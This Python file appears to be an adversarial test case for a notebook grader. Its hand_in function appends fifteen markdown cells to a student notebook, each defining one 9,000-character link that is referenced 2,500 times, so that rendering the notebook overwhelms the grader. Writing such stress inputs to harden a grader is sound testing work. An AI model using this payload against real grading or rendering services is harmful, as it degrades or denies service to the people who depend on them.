"""Hands in texts whose links all lead to one long address, which is written once and stands in the page thousands of
times."""

# /// attack
# opened = { "bounds" = ["troubled the grader"] }
# ///
# %% hand_in
def hand_in(folder):
    import nbformat

    (path,) = folder.glob("*.ipynb")
    notebook = nbformat.read(path, as_version=4)
    text = "[a]: http://" + "x" * 9_000 + "\n\n" + "[a]\n" * 2_500
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for _ in range(15)]
    nbformat.write(notebook, path)
